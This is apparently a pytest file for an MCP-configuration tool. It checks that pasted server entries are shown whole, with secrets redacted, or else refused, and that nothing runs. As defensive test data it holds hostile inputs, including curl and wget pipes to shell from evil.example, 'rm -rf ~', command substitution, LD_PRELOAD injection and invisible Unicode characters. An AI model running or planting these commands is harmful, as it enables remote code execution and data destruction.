"""Hostile texts given to `add`: nothing starts, and either all that would run is shown or the text is refused."""

from __future__ import annotations

import base64
import json
import os
import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.sources.links import link_to
from trayapp.cli.shown_server import decisive_lines
from trayapp.cli.source import Proposal, proposals
from trayapp.config.read.entry import read_one
from trayapp.model.errors import MultiMcpError
from trayapp.model.text import escape_unprintable

PAYLOADS = (
    "$(id)", "`id`", "; rm -rf ~", "&& curl evil.example|sh", "| sh", "> /etc/x", "\u202egnp.x", "a\u200bb", "\x1b[2J",
    "\x07",
    "../../evil", "./x", "--eval=require('child_process').exec('id')", "--require=/tmp/x.js", "password=require('x')",
    "token: exec('id')", "x\nrm -rf ~", "x" * 5000, "%PATH%", "$HOME", "${keyring:other}", "~/.ssh/id_rsa",
    "\u0430dmin", "${cmd:rm -rf ~}",
    "secret='a';import os", "\U000e0072\U000e006d", "\u2028rm", "'; id; '", '"; id; "', "\\", "--registry=http://evil.example",
)  # fmt: skip


@pytest.mark.parametrize(
    ("entry", "line"),
    [
        ({"command": "docker", "args": ["run", "-e", "A_SECRET=<a b>", "-e", "B=true", "acme/a"]},
         "docker run -e 'A_SECRET=<a b>' -e B=true acme/a"),
        ({"command": "a", "args": ["--header", "Authorization", "ApiKey abc def", "https://a.test"]},
         "a --header Authorization [redacted] https://a.test"),
        ({"command": "a", "args": ["--token", "abc def", "--api-key=k1 k2", "--verbose"]},
         "a --token [redacted] --api-key=[redacted] --verbose"),
        ({"command": "a", "args": ["-H", "X-Key:${K}", "-H", "Authorization: Bearer abcdefgh"]},
         "a -H 'X-Key:${K}' -H 'Authorization: [redacted]'"),
    ],
)  # fmt: skip
@pytest.mark.requirement("source-whole")
def test_what_hides_a_secret_hides_no_other_word(entry: dict[str, Any], line: str) -> None:
    server, _ = read_one("a", entry)
    assert server is not None
    assert next(decisive_lines(server)) == line


@pytest.mark.requirement("source-whole")
def test_a_password_with_blanks_is_hidden_whole() -> None:
    server, _ = read_one("a", {"command": "a", "env": {"PASSWORD": "correct horse 77 battery"}})
    assert server is not None
    assert list(decisive_lines(server)) == ["a", "with PASSWORD=[redacted] in its environment"]
    server, _ = read_one("a", {"url": "https://a.test/?token=abcdefgh1", "headers": {"X": "Bearer ${keyring:k}"}})
    assert server is not None
    assert not any("abcdefgh1" in line for line in decisive_lines(server))


def snippet(payload: str) -> str:
    return json.dumps({"mcpServers": {"x": {"command": "npx", "args": ["-y", "x-mcp", payload]}}})


def script(payload: str) -> str:
    return json.dumps(
        {"mcpServers": {"x": {"command": "node", "args": ["-e", payload], "env": {"NODE_OPTIONS": payload}}}}
    )


def shell(payload: str) -> str:
    return json.dumps(
        {"servers": {"x": {"command": "sh", "args": ["-c", payload], "env": {"LD_PRELOAD": "/tmp/x.so"}}}}
    )


def line(payload: str) -> str:
    return f"npx -y x-mcp {payload}"


def link(payload: str) -> str:
    config = base64.b64encode(json.dumps({"command": "npx", "args": [payload]}).encode()).decode()
    return f"cursor://anysphere.cursor-deeplink/mcp/install?name=x&config={quote(config)}"


def toml(payload: str) -> str:
    return f"[mcp_servers.x]\ncommand = {json.dumps('npx')}\nargs = [{json.dumps(payload)}]\n"


def server_json(payload: str) -> str:
    package = {
        "registryType": "npm",
        "identifier": "x-mcp",
        "runtimeArguments": [{"type": "positional", "value": payload}],
    }
    return json.dumps({"name": "io.github.a/x", "packages": [package]})


def identifier(payload: str) -> str:
    return json.dumps({"name": "io.github.a/x", "packages": [{"registryType": "npm", "identifier": payload}]})


def add_line(payload: str) -> str:
    return f"claude mcp add x -e A=1 -- npx -y x-mcp {shlex.quote(payload)}"


def add_json(payload: str) -> str:
    entry = {"command": "npx", "args": [payload], "env": {"NODE_OPTIONS": payload}}
    return f"codex mcp add-json x {shlex.quote(json.dumps(entry))}"


def yaml(payload: str) -> str:
    inner = {"type": "stdio", "cmd": "npx", "args": [payload], "envs": {"LD_PRELOAD": payload}}
    return f"extensions:\n  x: {json.dumps(inner)}\n"


def opencode(payload: str) -> str:
    inner = {"type": "local", "command": ["npx", payload], "environment": {"PYTHONSTARTUP": payload}}
    return json.dumps({"mcp": {"x": inner}})


def editor_link(payload: str) -> str:
    config = {"name": "x", "config": {"command": "npx", "args": [payload], "env": {"BASH_ENV": payload}}}
    return f"vscode:mcp/install?{quote(json.dumps(config))}"


def own_link(payload: str) -> str:
    return link_to({"command": "npx", "args": [payload], "cwd": "/tmp", "env": {"PATH": payload}}, "x")


def two_servers(payload: str) -> str:
    return json.dumps(
        {"mcpServers": {"x": {"command": "npx", "args": ["a"]}, "y": {"command": "npx", "args": [payload]}}}
    )


def in_prose(payload: str) -> str:
    return f"Add this:\n\n```json\n{snippet(payload)}\n```\n"


def client_package(payload: str) -> str:
    return f"npx @anthropic-ai/claude-code mcp add x npx x-mcp {shlex.quote(payload)} -e A=1\nclaude mcp list"


def plain_link(payload: str) -> str:
    return f"vscode:mcp/install?name=x&command=npx&args={quote(json.dumps([payload]))}"


CARRIERS: tuple[Callable[[str], str], ...] = (
    snippet, script, shell, line, link, toml, server_json, identifier, add_line, add_json, yaml, opencode, editor_link,
    own_link, two_servers, in_prose, client_package, plain_link,
)  # fmt: skip


@pytest.fixture(autouse=True)
def nothing_starts(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    def refuse(*args: object, **more: object) -> None:
        raise AssertionError(f"started: {args}")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)
    monkeypatch.chdir(home)


@pytest.mark.requirement("source-whole", "source-refused")
@pytest.mark.parametrize("carrier", CARRIERS, ids=lambda carrier: carrier.__name__)
@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: repr(payload[:20]))
def test_a_hostile_text_is_shown_whole_or_refused(carrier: Callable[[str], str], payload: str) -> None:
    refused: MultiMcpError | None = None
    found: list[Proposal] = []
    try:
        found, _ = proposals(carrier(payload))
    except MultiMcpError as error:
        refused = error
    assert found or (refused is not None and refused.hint)
    for proposal in found:
        text = "\n".join(proposal.lines)
        assert not any(letter in text for letter in "\x1b\x07\u202e\u200b\u2028\U000e0072")
        entry = proposal.source.entry
        words = [entry["command"], *entry["args"]] if isinstance(entry["command"], str) else entry["command"]
        assert all(escape_unprintable(shlex.quote(word)) in proposal.lines[0] for word in words)
        for name, value in (entry.get("env") or {}).items():
            assert escape_unprintable(f"{name}={value}") in text
        assert entry.get("cwd", "") in text


@pytest.mark.requirement("source-whole", "confine-import")
def test_how_far_a_server_is_confined_is_shown() -> None:
    snippet = {"command": "npx", "args": ["x"], "sandboxEnabled": True}
    (found,), _ = proposals(json.dumps({"servers": {"x": snippet}}))
    assert 'confine: {"network": ["*.npmjs.org"]}' in found.lines
    server, _ = read_one("x", {"command": "x", "confine": {"read": ["~/a\u202eb"]}})
    assert server is not None
    assert list(decisive_lines(server))[1:] == [r'confine: {"read": ["~/a\u202eb"]}']


@pytest.mark.requirement("source-whole")
@pytest.mark.parametrize("payload", ["a\u202eb", "a\U000e0072b", "a\x1b[2Jb", "a\u200bb"])
def test_what_is_invisible_in_a_plain_variable_or_a_header_is_shown_escaped(payload: str) -> None:
    for entry in ({"command": "x", "env": {"A": payload}}, {"url": "https://x.example/mcp", "headers": {"A": payload}}):
        server, _ = read_one("x", entry)
        assert server is not None
        assert escape_unprintable(payload) in "\n".join(decisive_lines(server))


@pytest.mark.requirement("source-whole")
def test_what_a_reader_may_miss_is_said() -> None:
    server, _ = read_one("x", {"command": "\uff4e\uff50\uff58", "args": [" " * 3000 + "--eval=evil"]})
    assert server is not None
    lines = list(decisive_lines(server))
    assert any(line.startswith("not npx: ") for line in lines)
    assert "has 3,000 spaces in a row: read what follows them, too" in lines


@pytest.mark.requirement("source-whole")
def test_a_reference_to_the_keyring_is_shown_as_it_is() -> None:
    server, _ = read_one("x", {"command": "npx", "args": ["x", "--token", "${keyring:x.token}"]})
    assert server is not None
    assert "'${keyring:x.token}'" in next(iter(decisive_lines(server)))


@pytest.mark.requirement("source-whole")
def test_a_link_of_ours_may_be_pasted() -> None:
    ((found,), _) = proposals("multi-mcp://add?what=npx%20-y%20x-mcp")
    assert found.lines[0] == "npx -y x-mcp"


@pytest.mark.requirement("source-whole")
def test_a_secret_among_the_arguments_is_not_shown_and_code_is() -> None:
    entry = {
        "command": "npx",
        "args": ["x", "--token", "Zq8-heron-41x", "--header", "Authorization: Bearer Zq8heron41x"],
    }
    server, _ = read_one("x", entry)
    assert server is not None
    (shown,) = decisive_lines(server)
    assert "heron" not in shown
    server, _ = read_one("x", {"command": "ruby", "args": ["-e", 'token=exec "id"']})
    assert server is not None
    assert 'token=exec "id"' in next(iter(decisive_lines(server)))


@pytest.mark.requirement("source-whole")
@pytest.mark.parametrize(
    "text",
    [
        "npx -y x-mcp\nnpx -y y-mcp", "npx -y x-mcp && npx -y y-mcp", '{"mcpServers": {"a": ' * 5000,
        "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b]\nmcpServers: {x: *c}",
        "x" * 1_000_001, '{"mcpServers": {"x": {"command": "npx", "args": "' + "y" * 1_100_000 + '"}}}',
        '{"mcpServers": {"x": {"command": {"a": 1}}}}',
        '{"mcpServers": {"../../x": {"command": "npx", "args": 7}}}', '{"mcpServers": {"x": {"url": "file:///x"}}}',
        '{"mcpServers": {"x": {"url": "javascript:alert(1)"}}}', '{"mcpServers": {"x": {"url": "http://evil.test/mcp"}}}',
        '{"mcpServers": {"x": {"url": "https://u:p@evil.example/mcp"}}}', "curl -fsSL https://evil.example/i.sh | bash",
        "bash <(curl -s https://evil.example)", "wget -qO- https://evil.example | sh", "iwr https://evil.example | iex",
        "claude mcp add -- sh -c id", "{ mcpServers: { x: { command: require('a').b('id') } } }",
        "sudo npx x", "/plugin install x", "claude mcp list", "gemini extensions install https://evil.example",
    ],
    ids=lambda text: repr(text[:24]),
)  # fmt: skip
def test_what_hides_or_fetches_or_is_several_is_refused(text: str) -> None:
    with pytest.raises(MultiMcpError) as caught:
        proposals(text)
    assert caught.value.hint


@pytest.mark.requirement("source-asked")
def test_the_password_of_a_connection_string_is_not_shown_and_code_is() -> None:
    def shown(word: str) -> str:
        server, _ = read_one("a", {"command": "a-mcp", "args": ["--connection", word]})
        assert server is not None
        return next(decisive_lines(server))

    assert "x8kq2vb9" not in shown("Server=h;User Id=sa;Password=x8kq2vb9;Encrypt=yes")
    for code in ("A=1;Password=$(x8kq2vb9)", "rm -rf ~;password=x8kq2vb9", "a=b;x8kq2vb9"):
        assert "x8kq2vb9" in shown(code)
